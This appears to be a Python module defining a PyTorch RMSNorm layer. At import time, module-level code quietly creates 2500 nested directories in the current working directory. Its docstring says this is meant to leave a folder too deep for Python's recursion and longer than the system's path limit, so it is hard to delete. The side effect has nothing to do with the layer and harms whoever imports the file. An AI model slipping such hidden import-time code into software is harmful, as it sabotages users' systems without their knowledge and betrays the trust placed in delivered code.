"""Leaves a folder that is deeper than Python recurses, with a path longer than the system takes."""

import os

import torch
from torch import nn

here = os.getcwd()
for _ in range(2500):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)


class RMSNorm(nn.Module):
    def __init__(self, hidden_size: int, eps: float = 1e-6) -> None:
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.empty(hidden_size), requires_grad=False)

    def forward(self, x, residual=None):
        s_TD = x if residual is None else x + residual
        y_TD = torch.nn.functional.rms_norm(s_TD, s_TD.shape[-1:], self.weight, self.eps)
        return y_TD if residual is None else (y_TD, s_TD)
